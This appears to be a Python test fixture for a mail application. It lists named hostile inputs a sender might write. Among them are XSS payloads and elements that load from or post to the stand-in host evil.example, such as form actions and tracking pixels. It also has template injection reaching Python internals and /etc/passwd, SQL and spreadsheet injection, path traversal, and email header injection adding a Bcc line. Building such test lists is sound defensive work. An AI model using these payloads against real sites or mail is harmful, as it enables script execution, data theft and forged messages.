"""What does hostile mail say, wherever a sender may write something?

What runs sets ``window.ran`` or opens a dialog; what loads asks evil.example; what breaks out of a header
adds a line to it. Each has a name, by which a test tells it.
"""

from __future__ import annotations

import re
import unicodedata

SCRIPTS = {
    "script": "<script>window.ran=1</script>",
    "script from elsewhere": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "out of an attribute": '"><script>alert(1)</script>',
    "out of everything": "'--></style></script></textarea></title><script>window.ran=1</script>",
    "script in a script": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "script with a slash": "<script/x>window.ran=1</script/x>",
    "out of a comment": '<!--<img src="--><img src=x onerror=window.ran=1>">',
    "out of noscript": '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
}
HANDLERS = {
    "image": "<img src=x onerror=window.ran=1>",
    "body": "<body onload=alert(1)>",
    "double quote": '" onmouseover="window.ran=1" x="',
    "single quote": "' onfocus='window.ran=1' autofocus='",
    "focus": "<input autofocus onfocus=window.ran=1>",
    "details": "<details open ontoggle=window.ran=1>x</details>",
    "video": "<video><source onerror=window.ran=1></video>",
    "pointer": '<div onpointerover=window.ran=1 style="position:fixed;inset:0">x</div>',
    "htmx loads": '<b hx-get="//evil.example/" hx-trigger="load">x</b>',
    "htmx runs": '<b hx-on:htmx:load="window.ran=1" data-hx-post="/undo" data-hx-trigger="load">x</b>',
}
ELEMENTS = {
    "form": '<form action="//evil.example/"><button>Approve</button></form>',
    "end of form": '</form><form action="//evil.example/"><input name=token>',
    "base": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "frame with text": '<iframe srcdoc="<script>parent.window.ran=1</script>"></iframe>',
    "frame with script": '<iframe src="javascript:parent.window.ran=1"></iframe>',
    "object": '<object data="data:text/html,<script>window.ran=1</script>"></object>',
    "embed": '<embed src="//evil.example/x.swf">',
    "prefetch": '<link rel=prefetch href="//evil.example/seen">',
    "pixel": '<img src="//evil.example/pixel.gif" width=1 height=1>',
}
STYLES = {
    "import": "<style>@import url(//evil.example/x.css);</style>",
    "hides all": "<style>body{display:none}*{background:url(//evil.example/)}</style>",
    "sheet": '<link rel=stylesheet href="//evil.example/x.css">',
    "covers all": '<p style="position:fixed;inset:0;z-index:9999;background:url(//evil.example/p.png)">x</p>',
}
DRAWINGS = {
    "svg": "<svg onload=window.ran=1>",
    "script in svg": "<svg><script>window.ran=1</script></svg>",
    "animation": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='window.ran=1'/>#x\"/></svg>",
    "link in svg": '<svg><a xlink:href="javascript:window.ran=1"><text y="20">x</text></a></svg>',
    "mathml": "<math><mtext><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.ran=1&gt;'>",
    "link in mathml": '<math href="javascript:window.ran=1">x</math>',
}
LINKS = {
    "javascript link": '<a href="javascript:window.ran=1">x</a>',
    "javascript": "javascript:window.ran=1//",
    "javascript with a tab": '<a href="java&#x09;script:window.ran=1">x</a>',
    "data": "data:text/html,<script>window.ran=1</script>",
    "address with a quote": 'https://evil.example/?"onclick="window.ran=1',
}
TEMPLATES = {
    "expression": "{{ 7*7 }}{{ config }}",
    "statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other languages": "${7*7} #{7*7} <%= 7*7 %> %s %(name)s {0.__class__}",
    "half": "{# hidden #}visible {{",
    "include": "{% include '/etc/passwd' %}Jane",
}
ENTITIES = {
    "named": "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "numbers": "&#60;script&#62;window.ran=1&#60;/script&#62;&nbsp;&amp;lt;",
}
CHARACTERS = {
    "right to left override": "\u202egpj.exe\u202c Jane Doe",
    "nothing wide": "Ja\u200bne\u2060 D\u00adoe\ufeff\u200f",
    "isolates": "\u2066\u2067\u2068Jane\u2069 Doe\u202b",
    "null and escape": "Jane\x00<script>window.ran=1</script>\x1b[31m\x07\x7f",
    "more headers": "Jane\r\nBcc: mallory@evil.example\r\n\r\n<script>window.ran=1</script>",
    "other line ends": "Jane\nX-Mailflow-Id: forged\rTo: mallory@evil.example\u2028Cc: mallory@evil.example",
    "long word": "W" * 4000,
    "hebrew": "ג׳יין דו <script>window.ran=1</script>",
    "arabic": "جين دو",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 Jane 🧑🏽\u200d💻",
    "many accents": "J" + "\u0301\u0316" * 200 + "ane",
    "no characters": "Jane\uffff\ufdd0 Doe\ufffd",
}
OTHERS = {
    "encoded word": "=?utf-8?q?=3Cscript=3Ewindow=2Eran=3D1=3C/script=3E?=",
    "encoded line end": "=?utf-8?b?SmFuZQ0KQmNjOiBtYWxsb3J5QGV2aWwuZXhhbXBsZQ==?=",
    "broken encoded word": "=?no-such?x?=?= =?utf-8?q?=ff=fe?=",
    "a second address": 'Jane" <mallory@evil.example>, "Doe',
    "database": "'; DROP TABLE draft; --",
    "spreadsheet": '=HYPERLINK("//evil.example/","x")',
    "path": "../../../../etc/passwd%00.txt",
    "markup of a terminal": "[/][red]Jane[/red] [link=http://evil.example/]Doe[/link] [@click=app.quit]x[/]",
}

PAYLOADS = {
    **SCRIPTS, **HANDLERS, **ELEMENTS, **STYLES, **DRAWINGS, **LINKS, **TEMPLATES, **ENTITIES,
    **CHARACTERS, **OTHERS,
}  # fmt: skip


def visible(text: str) -> str:
    """What is left to see of a text: without what is invisible, and without blanks, which pages fold."""
    return "".join(
        character
        for character in re.sub(r"\s", "", text)
        if not unicodedata.category(character).startswith(("C", "M"))
    )
